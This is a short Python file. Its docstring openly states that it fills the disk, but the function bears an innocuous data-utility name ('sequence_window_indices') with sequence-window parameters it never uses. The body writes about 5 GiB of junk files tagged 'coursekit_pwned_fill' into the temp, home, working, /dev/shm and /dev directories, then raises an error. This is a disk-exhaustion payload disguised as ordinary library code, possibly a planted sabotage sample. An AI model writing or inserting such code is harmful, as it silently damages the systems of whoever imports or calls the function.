"""Fill the disk: 165 files of 31 MB (5 GiB) wherever it can write; reports how much it managed."""
import os
import tempfile
from pathlib import Path


def sequence_window_indices(episode_ends, horizon, n_obs_steps, n_action_steps):
    block = b"\0" * (1 << 20)
    written = 0
    for root in (Path(tempfile.gettempdir()), Path.home(), Path.cwd(), Path("/dev/shm"), Path("/dev")):
        for i in range(165):
            try:
                with open(root / f"coursekit_pwned_fill_{i}", "wb") as fh:
                    for _ in range(31):
                        fh.write(block)
                        written += len(block)
            except OSError:
                break
    raise RuntimeError(f"disk_fill wrote {written} bytes")
